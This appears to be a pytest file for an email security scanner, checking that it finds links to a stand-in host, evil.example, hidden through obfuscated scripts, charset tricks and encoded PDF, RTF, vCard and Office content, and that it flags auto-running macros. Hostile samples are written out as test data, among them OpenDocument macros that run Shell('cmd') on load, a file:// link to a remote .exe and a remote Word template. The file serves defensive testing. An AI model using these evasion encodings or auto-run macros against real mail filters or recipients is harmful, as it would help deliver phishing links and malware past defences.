"""Links that a mail program, a browser or Office shows, and that the service did not see."""

from __future__ import annotations

import base64
import struct

import pytest

from bridge.mime import words
from bridge.service.analysis.inspection import inspect
from bridge.service.analysis.limits import Limits
from tests.processor_time import fair_cpu_s, is_linear
from tests.service.service_kit import attached, mail, zipped
from tests.service.test_service_document_attacks import score
from tests.service.test_service_documents import ole, tags

HOST = "evil.example"
LINK = b"https://evil.example/x"
LONG = b"http://" + b"a" * 9000 + b"@evil.example/x"  # a user name as long as that is allowed


def hosts(content: bytes) -> set[str]:
    return inspect(content, Limits()).hosts


def text(body: bytes, content_type: str) -> bytes:
    lines = base64.encodebytes(body).replace(b"\n", b"\r\n")
    return mail(lines, MIME_Version="1.0", Content_Type=content_type, Content_Transfer_Encoding="base64")


def script(source: bytes) -> bytes:
    return attached(b"<html><script>" + source + b"</script></html>", "a.html", "text/html")


def framed(kind: bytes, page: bytes) -> bytes:
    address = b"data:" + kind + b";base64," + base64.b64encode(page)
    return attached(b'<html><body><iframe src="' + address + b'"></iframe></body></html>', "a.html", "text/html")


def pdf(uri: bytes, head: bytes = b"%PDF-1.4\n") -> bytes:
    return head + b"1 0 obj\n<</Subtype/Link/A<</S/URI/URI " + uri + b">>>>\nendobj\ntrailer<</Root 1 0 R>>\n"


def opendocument(*members: tuple[str, bytes]) -> bytes:
    return zipped(("mimetype", b"application/vnd.oasis.opendocument.text"), *members)


def sheet(formula: bytes) -> bytes:
    return zipped(("xl/worksheets/sheet1.xml", b'<worksheet><c><f ca="1">' + formula + b"</f></c></worksheet>"))


def event(page: bytes) -> bytes:
    """Outlook shows this page instead of the description."""
    line = b"X-ALT-DESC;FMTTYPE=text/html:" + page
    return mail(b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n" + line + b"\r\nEND:VEVENT\r\n", Content_Type="text/calendar")


ANCHOR = b'<a href="https://evil.example/x">open</a>'
FULL_WIDTH = '<a href="http://\uff45\uff56\uff49\uff4c.example/x">\u70b9\u51fb</a>'
JAPANESE = b'<html><a href="http://\x1b$B#e#v#i#l\x1b(B.example/x">x</a></html>'
UTF_7 = b"see http:+AC8ALw-evil.example/x ok, and nothing else in this text\r\n"
RTF = b"{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"h\\'74tp\\'3a//\\'65vil.example/x\"}{\\fldrslt x}}}"
CARD = b"BEGIN:VCARD\r\nVERSION:2.1\r\n%b\r\nEND:VCARD\r\n"
CODES = b",".join(b"%d" % byte for byte in LINK)
MAILS = {
    "a page in a frame": framed(b"text/html", ANCHOR),
    "a drawing in a frame": framed(b"image/svg+xml", b"<svg>" + ANCHOR + b"</svg>"),
    "a page in a frame of a frame": framed(
        b"text/html", b'<iframe src="data:text/html;base64,' + base64.b64encode(ANCHOR) + b'">'
    ),
    "a page in an address, with percent signs": text(
        b'<iframe src="data:text/html,%3Ca%20href=%22https:%2F%2Fevil.example%2Fx%22%3Eopen%3C/a%3E">', "text/html"
    ),
    "a script, in pieces": script(b'location = "htt" + "ps://e" + \'vil.exam\' + "ple/x"'),
    "a script, with a function that joins": script(b'location = "https:".concat("//ev", "il.example/x")'),
    "a script, in Base64": script(b'location = atob("' + base64.b64encode(LINK) + b'")'),
    "a script, in long Base64": script(b'location = atob("' + base64.b64encode(LINK + b"?" + b"a" * 60) + b'")'),
    "a script, in hexadecimal": script(b'x = "' + LINK.hex().encode() + b'"'),
    "a script, as numbers": script(b"location = String.fromCharCode(" + CODES + b")"),
    "a script, reversed": script(b'location = "' + LINK[::-1] + b'".split("").reverse().join("")'),
    "a script, escaped": script(b'location = unescape("' + b"".join(b"%%%02x" % byte for byte in LINK) + b'")'),
    "a card in quoted-printable": attached(
        CARD % b"URL;ENCODING=QUOTED-PRINTABLE:http=3A=2F=2Fevil.example/x", "a.vcf", "text/x-vcard"
    ),
    "a card with a soft line break": attached(
        CARD % b"NOTE;ENCODING=QUOTED-PRINTABLE:http://ev=\r\nil.example/x", "a.vcf", "text/x-vcard"
    ),
    "a card in Base64": attached(CARD % (b"NOTE;ENCODING=BASE64:" + base64.b64encode(LINK)), "a.vcf", "text/x-vcard"),
    "a card that is only named as one": attached(CARD % (b"URL:" + LINK), "a.vcf"),
    "an invitation with a page, escaped": event(b'<a href="https:&#47\\;&#47\\;evil.example/x">'),
    "an invitation with a page and a line end": event(b'<a href="https:/\\n/evil.example/x">'),
    "an invitation with a page in a page": event(
        b'<iframe src="data:text/html\\;base64\\,' + base64.b64encode(ANCHOR) + b'">'
    ),
    "a table": attached(b'name,link\r\nx,"=HYPERLINK(""https://evil.example/x"")"\r\n', "a.csv"),
    "a page saved by Safari": attached(b"bplist00\xd1\x01" + bytes(3000) + ANCHOR, "a.webarchive"),
    "a page saved by Safari, behind a long comment": attached(
        b"<!--" + 3000 * b"x" + b"--><plist><dict><data>" + base64.b64encode(ANCHOR) + b"</data></dict></plist>",
        "a.webarchive",
    ),
    "a page saved by Safari, behind a long comment in UTF-16": attached(
        f"<!--{3000 * 'x'}--><plist><data>{base64.b64encode(ANCHOR).decode()}</data></plist>".encode("utf-16"),
        "a.webarchive",
    ),
    "a page saved by Safari, in XML": attached(
        b'<?xml version="1.0"?><plist version="1.0"><dict><key>WebResourceData</key><data>\n\t'
        + base64.b64encode(ANCHOR).replace(b"Z", b"&#90;")
        + b"\n\t</data></dict></plist>",
        "a.webarchive",
    ),
    "a form of a PDF document": attached(b"%FDF-1.2\n1 0 obj<</FDF<</F (" + LINK + b")>>>>endobj", "a.fdf"),
    "the losing charset": text(UTF_7, "text/plain; charset=utf-7; charset*=us-ascii''utf-8"),
    "the losing charset, in pieces": text(UTF_7, 'text/plain; charset=utf-8; charset*0="ut"; charset*1="f-7"'),
    "Japanese that is not declared": text(JAPANESE, "text/html"),
    "Japanese that is declared as something else": text(JAPANESE, "text/html; charset=utf-8"),
    "Japanese in an attached page": attached(JAPANESE, "a.html", "text/html"),
    "Chinese that is not declared": text(FULL_WIDTH.encode("gbk"), "text/html"),
    "Korean that is not declared": text(FULL_WIDTH.encode("cp949", "replace"), "text/html"),
    "RTF, escaped": attached(RTF, "a.doc", "application/msword"),
    "RTF in a long field": attached(RTF.replace(b"//", b"//" + b"\\'61" * 5000 + b"@"), "a.rtf"),
    "an old document": attached(ole({"WordDocument": b"\xec\xa5" + bytes(60) + b'\x13 HYPERLINK "' + LONG}), "a.doc"),
    "an old document, 16-bit": attached(ole({"1Table": LONG.decode().encode("utf-16-le")}), "a.doc"),
    "PDF": attached(pdf(b"(" + LONG + b")"), "a.pdf"),
    "PDF, in hexadecimal": attached(pdf(b"<" + LONG.hex().encode() + b">"), "a.pdf"),
    "PDF without its mark": attached(pdf(b"(" + LINK + b")", b""), "a.pdf"),
    "PDF without its mark and its name": attached(pdf(b"(" + LINK + b")", b""), "a", "application/pdf"),
    "PDF with the mark of PostScript": attached(pdf(b"(" + LINK + b")", b"%!PS-Adobe-3.0 PDF-1.4\n"), "a.pdf"),
    "PDF with a script": attached(pdf(b'(x)/S/JavaScript/JS (app.launchURL\\("' + LINK + b'"\\))'), "a.pdf"),
    "OpenDocument": attached(
        opendocument(("content.xml", b'<text:a xlink:href="https:&#47;/evil.example/x">')), "a.odt"
    ),
    "a formula": attached(sheet(b'HYPERLINK("https://evil.example/x","Open")'), "a.xlsx"),
    "a formula that joins": attached(sheet(b'HYPERLINK("https:"&amp;"//"&amp;"evil.example/x")'), "a.xlsx"),
    "a formula, binary": attached(zipped(("xl/worksheets/sheet1.bin", LINK.decode().encode("utf-16-le"))), "a.xlsb"),
    "XPS": attached(zipped(("Documents/1/Pages/1.fpage", b'<Path FixedPage.NavigateUri="%b"/>' % LINK)), "a.xps"),
    "a page in a document, under any name": attached(
        zipped(("word/x.dat", b"<html><a href='//evil.example/'>x</a></html>")), "a.docx"
    ),
    "content on a server": mail(
        b'--x\r\nContent-Type: message/external-body; access-type=URL;\r\n URL="https://evil.\r\n example/x"\r\n\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n\r\n--x--\r\n",
        Content_Type="multipart/mixed; boundary=x",
    ),
    "the button to unsubscribe": mail(List_Unsubscribe="<mailto:a@b.example>, <https://evil.example/u>"),
    "the button to unsubscribe, with a user": mail(
        List_Unsubscribe="<mailto:a@b.example>,<https://b.example()@evil.example>"
    ),
    "an address elsewhere, with a user": mail(
        Content_Type='message/external-body; access-type=URL; URL="https://b.example(@evil.example/x"'
    ),
}


@pytest.mark.parametrize("name", MAILS)
def test_a_link_was_not_seen(name: str) -> None:
    assert HOST in hosts(MAILS[name])


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("application/x", pdf(b"(" + LINK + b")", b"")),
        ("text/calendar", b"BEGIN:VCALENDAR\r\nDESCRIPTION:https://ev\r\n il.example/x\r\nEND:VCALENDAR\r\n"),
        ("text/x-vcard", CARD % b"URL;ENCODING=QUOTED-PRINTABLE:http=3A=2F=2Fevil.example/x"),
    ],
)
def test_a_link_was_not_seen_in_an_ambiguous_mail(kind: str, content: bytes) -> None:
    """Only some programs see the second delimiter, and nobody knows what the name and type of the part are."""
    lines = base64.encodebytes(content).replace(b"\n", b"\r\n")
    part = f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n\r\n".encode() + lines
    body = b"--x\r\n\r\nhello\r\n--x--\r\n--y\r\n" + part + b"--y--\r\n"
    assert HOST in hosts(mail(body, MIME_Version="1.0", Content_Type="multipart/mixed; boundary=x"))


def test_an_escaped_backslash_in_a_plain_text_is_none_of_an_invitation() -> None:
    """Only invitations and cards have such escapes."""
    assert hosts(text(b"https://a\\,b.example/", "text/plain; format=flowed; delsp=yes")) == hosts(
        text(b"https://a\\,b.example/", "text/plain")
    )


def test_a_host_in_latin_1_without_a_charset_was_read_as_another() -> None:
    assert "xn--bcher-kva.example" in hosts(
        text('<a href="http://b\xfccher.example/">x</a>'.encode("latin-1"), "text/html")
    )


def test_the_template_of_an_old_document_was_only_a_link() -> None:
    """Word loads the template of a .doc file from the internet just as that of a .docx file."""

    def document(path: str) -> bytes:
        names = b"".join(struct.pack("<H", len(name)) + name.encode("utf-16-le") for name in ("", path))
        return ole({"WordDocument": b"\xec\xa5" + bytes(60), "1Table": b"x" * 50 + b"\xff\xff\x12\0\0\0" + names})

    assert score(document("http://evil.example/t.dotm"), "a.doc") >= 8
    assert score(document("C:\\Users\\a\\Normal.dotm"), "a.doc") == 0


def test_macros_of_opendocument_were_not_seen() -> None:
    module = b"<script:module>Sub Main\nIf 1 &lt; 2 Then Shell(&quot;cmd&quot;)\nEnd Sub</script:module>"
    listener = b'<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/>'
    document = opendocument(("Basic/Standard/M.xml", module), ("content.xml", listener))
    assert {"mime:macro", "office:auto-macro", "office:macro-runs-program"} <= tags(document, "a.odt")
    assert score(document, "a.odt") >= 8
    assert "mime:macro" in tags(opendocument(("Scripts/python/a", b"import os")), "a.odt")
    flat = b'<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">' + module
    assert "mime:macro" in tags(flat, "a.fodt")
    assert tags(opendocument(("content.xml", b"<a/>"), ("Basic/script-lc.xml", b"<library/>")), "a.odt") == set()


SCRIPT, OFFICE = b"http://openoffice.org/2000/script", b"urn:oasis:names:tc:opendocument:xmlns:script:1.0"
BASIC = b'Sub Main\nShell("calc.exe")\nEnd Sub'


def basic(start: bytes = b"<s:module>", source: bytes = BASIC, end: bytes = b"</s:module>") -> bytes:
    return start.replace(b"module", b'module xmlns:s="%b" s:name="M"' % SCRIPT, 1) + source + end


def listener(element: bytes = b"s:event-listener", event: bytes = b's:event-name="dom:load"') -> bytes:
    return b'<a xmlns:s="%b"><%b %b xlink:href="vnd.sun.star.script:S.M.Main"/></a>' % (OFFICE, element, event)


BASIC_MODULES = {
    "a prefix with a hyphen": basic(b"<a-b:module>", end=b"</a-b:module>"),
    "a long prefix": basic(b"<" + b"p" * 30 + b":module>", end=b"</" + b"p" * 30 + b":module>"),
    "a long attribute": basic(b'<s:module s:x="' + b"x" * 2100 + b'">'),
    "a bracket in an attribute": basic(b'<s:module s:x=">">'),
    "white space at the beginning": b" " * 9000 + basic(),
    "an end in a CDATA section": basic(source=b"<![CDATA[' </]]>\n" + BASIC),
    "an end in a comment": basic(source=b"x<!--</-->\n" + BASIC),
    "an end in an instruction": basic(source=b"<?x </?>\n" + BASIC),
    "a comment within a word": basic(source=BASIC.replace(b"Sh", b"Sh<!---->")),
    "an element within a word": basic(source=BASIC.replace(b"Sh", b"Sh<a/>")),
    "an element before a word": basic(source=b"Sub Main\nx<source-code>Shell(1)</source-code>"),
    "an entity": b'<!DOCTYPE m [<!ENTITY s "Sh">]>' + basic(source=BASIC.replace(b"Sh", b"&s;")),
    "UTF-16": basic().decode().encode("utf-16"),
    "Shift_JIS": b"<?xml version='1.0' encoding='Shift_JIS'?>" + basic(b"<a-b:module>", end=b"</a-b:module>"),
    "EUC-JP, and a comment": b"<?xml version='1.0' encoding='euc-jp'?>" + basic(source=b"<!--</-->" + BASIC),
    "a mistake behind it": basic() + b"<",
    "a mistake before it": b"<a></b>" + basic(b"<a-b:module>", end=b"</a-b:module>"),
}
LISTENERS = {
    "a prefix with a hyphen": listener(b"a-b:event-listener"),
    "a long prefix": listener(b"p" * 30 + b":event-listener"),
    "a reference": listener(event=b's:event-name="dom&#58;load"'),
    "another prefix of the event": listener(event=b's:event-name="d:load"'),
    "many spaces": listener(event=b"s:event-name" + b" " * 50 + b"='dom:load'"),
    "a long attribute": listener(event=b's:x="' + b"x" * 5000 + b'" s:event-name="dom:load"'),
    "a bracket in an attribute": listener(event=b's:x=">" s:event-name="dom:load"'),
    "a default": b'<!DOCTYPE a [<!ATTLIST s:event-listener s:event-name CDATA "dom:load">]>' + listener(event=b""),
    "an entity": b'<!DOCTYPE a [<!ENTITY e "dom:load">]>' + listener(event=b's:event-name="&e;"'),
    "a mistake before it": b"<a></b>" + listener(b"x-y:event-listener"),
}


@pytest.mark.parametrize("kind", BASIC_MODULES)
def test_a_macro_of_opendocument_was_hidden_by_how_its_xml_is_written(kind: str) -> None:
    """LibreOffice reads it with an XML parser. We read it with patterns, and delivered it."""
    document = opendocument(("Basic/Standard/M.xml", BASIC_MODULES[kind]), ("content.xml", listener()))
    assert {"mime:macro", "office:auto-macro", "office:macro-runs-program"} <= tags(document, "a.odt")


@pytest.mark.parametrize("kind", LISTENERS)
def test_a_listener_of_opendocument_was_hidden_by_how_its_xml_is_written(kind: str) -> None:
    document = opendocument(("Basic/Standard/M.xml", basic()), ("content.xml", LISTENERS[kind]))
    assert {"mime:macro", "office:auto-macro", "office:macro-runs-program"} <= tags(document, "a.odt")
    flat = LISTENERS[kind].replace(b"<a ", b'<a xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ')
    assert "office:auto-macro" in tags(flat, "a.fodt")


def test_a_macro_of_opendocument_in_entities_that_are_not_expanded_is_held() -> None:
    declared = b'<!DOCTYPE m [<!ENTITY s "S"><!ENTITY t "&s;h">]>'
    document = opendocument(("Basic/Standard/M.xml", declared + basic(source=BASIC.replace(b"Sh", b"&t;"))))
    assert {"mime:macro", "document:not-read"} <= tags(document, "a.odt")
    assert score(document, "a.odt") >= 8


def test_ordinary_opendocument_has_no_tags() -> None:
    content = (
        b'<?xml version="1.0"?><!-- a --><a xmlns:s="%b"><s:event-listener s:event-name="dom:click"/></a>' % OFFICE
    )
    about = b'<!DOCTYPE m PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>'
    empty = b'<!DOCTYPE s:module PUBLIC "a" "module.dtd"><s:module xmlns:s="%b" s:name="M"/>' % SCRIPT
    parts = (("content.xml", content), ("META-INF/manifest.xml", about), ("Basic/Standard/M.xml", empty))
    assert tags(opendocument(*parts), "a.odt") == set()
    assert tags(opendocument(("content.xml", bytes(range(256)) * 9)), "a.odt") == set()


def test_a_link_of_opendocument_in_an_entity_was_not_found() -> None:
    content = b'<!DOCTYPE a [<!ENTITY e "//evil.example">]><text:a xlink:href="https:&e;/x">x</text:a>'
    assert "host:evil.example" in tags(opendocument(("content.xml", content)), "a.odt")
    content = b"<text:a xlink:href" + b" " * 50 + b"='https:&#47;/evil.example/x'>x</text:a>"
    assert "host:evil.example" in tags(opendocument(("content.xml", content)), "a.odt")


@pytest.mark.parametrize("charset", ["BOCU-1", "ibm-1214", "ibm-37_P100-1995,swaplfnl", "IBM-Thai", "x-IBM939A"])
def test_links_in_charsets_of_icu_were_missed(charset: str) -> None:
    """Programs on Android know the charsets of ICU, under all of its names."""
    plain = LINK.decode()
    coded = bytes(byte + 0x50 for byte in LINK) if words.codec_of(charset) == "bocu_1" else plain.encode("cp037")
    assert HOST in hosts(text(coded, f'text/plain; charset="{charset}"'))


@pytest.mark.parametrize(
    ("charset", "raw", "expected"),
    [
        ("scsu", b"ht\x01tp:/\x0e\0/\x0f\0e\0v\0i\0l\xe0.exa\x01mple".hex(), "http://evil.example"),
        ("scsu", b"\x0f\0h\xf0\0t\0t\0p".hex(), "http"),
    ],
)
def test_other_compressed_charsets(charset: str, raw: str, expected: str) -> None:
    assert words.as_text(bytes.fromhex(raw), charset) == expected


@pytest.mark.parametrize("piece", [b"\xd0\x01", b"\x0f\0a\xe0", b"\xfe\x01\x02\x03", b"\x0e\0"])
def test_compressed_charsets_take_linear_time(piece: bytes) -> None:
    for codec in ("bocu-1", "scsu"):
        assert is_linear(lambda raw, codec=codec: words.as_text(raw, codec), piece * 5000, piece * 20_000)


def test_frames_within_frames_end() -> None:
    page = b"x"
    for _ in range(12):
        page = b'<iframe src="data:text/html;base64,' + base64.b64encode(b"<html>" + page) + b'">'
    assert inspect(attached(page, "a.html", "text/html"), Limits()).limits == {"archive-depth"}


@pytest.mark.parametrize("name", ["a.zip", "a.jpg", "a", "a.001"])
@pytest.mark.parametrize("mark", [b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07\x01\0", b"MSCF\0\0\0\0"])
def test_an_archive_behind_a_picture_was_not_noticed(mark: bytes, name: str) -> None:
    """7-Zip opens it there, whatever the name of the file is."""
    picture = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(200) + b"\xff\xd9"
    assert "mime:unopened-archive" in tags(picture + mark + b"damaged" * 9, name)


@pytest.mark.parametrize("extension", ["terminal", "inetloc", "vncloc", "saver", "wsb", "xpi", "oxt", "a3x", "odc"])
def test_more_extensions_run_programs(extension: str) -> None:
    assert "mime:executable" in tags(b"\x01\x02\xff binary", f"a.{extension}")


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        ('<meta http-equiv=refresh content="0 search-ms:query=x">', True),
        ("<meta http-equiv=refresh content=' 0.5 file://evil.example/share/a.exe'>", True),
        ('<base href="file://evil.example/share/"><a href="a.exe">x</a>', True),
        (r"<base target=_blank href = \\evil.example@80\share\><a href=a.hta>x</a>", True),
        ('<base target="x>y" href="file://evil.example/share/">', True),
        (f"<base {'x ' * 300}href='file://evil.example/share/'>", True),
        ('<h:base href="file://evil.example/share/"/>', True),
        ('<base href="file:///C:/mail/"><a href="a.exe">x</a>', False),
        ('<base href="https://ok.example/"><a href="file://ok.example/share/a.pdf">x</a>', False),
        (r'<base href="file://files/share/"> \\evil.example', False),
        ('<base href="https://ok.example/"> file://evil.example', False),
    ],
)
def test_a_base_or_a_space_hid_a_link_that_starts_a_program(page: str, expected: bool) -> None:
    assert ("url:starts-program" in inspect(text(page.encode(), "text/html"), Limits()).tags) == expected


@pytest.mark.parametrize("piece", ["<base ", '<base x="9', '<base href="file://a{}.example/">', "='file:<base '"])
def test_many_bases_take_linear_time(piece: str) -> None:
    page = f"file:{''.join(map(piece.format, range(20_000)))}".encode()
    assert fair_cpu_s(lambda: inspect(text(page, "text/html"), Limits())) < 2
